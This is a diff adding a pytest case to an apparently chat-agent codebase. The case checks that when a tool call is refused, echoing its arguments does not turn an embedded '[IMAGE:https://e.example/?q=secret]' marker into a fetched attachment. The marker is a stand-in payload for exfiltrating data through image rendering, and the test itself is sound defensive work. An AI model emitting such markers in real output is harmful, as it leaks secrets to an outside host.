@@ -5,6 +5,7 @@ import json
 
 import pytest
 
+from claw.channels.markers import parse_markers
 from claw.core.channel import Button, ChannelMessage
 from claw.core.provider import ChatResponse, ToolCall
 from claw.core.turn import ApprovalRequest
@@ -121,6 +122,20 @@ async def test_nobody_else_can_answer(dialogue, other):
 
         d.press(approval)
         await d.stage.until(lambda: d.tool.runs)
+
+
+async def test_what_is_refused_sends_no_file_by_being_shown(dialogue):
+    marker = "[IMAGE:https://e.example/?q=secret]"
+    async with dialogue([call(x=marker), "done"]) as d:
+        d.channel.say("go")
+        approval = await d.question()
+        d.press(approval, "no")
+
+        await d.stage.until(lambda: "done" in d.channel.texts())
+        answer, = (text for text in d.channel.texts()
+                   if text.startswith("Refused"))
+        assert "IMAGE:https://e.example/?q=secret" in answer
+        assert parse_markers(answer)[1] == []
 
 
 @pytest.mark.parametrize("labels", [("forwarded",), ("quoted",)])
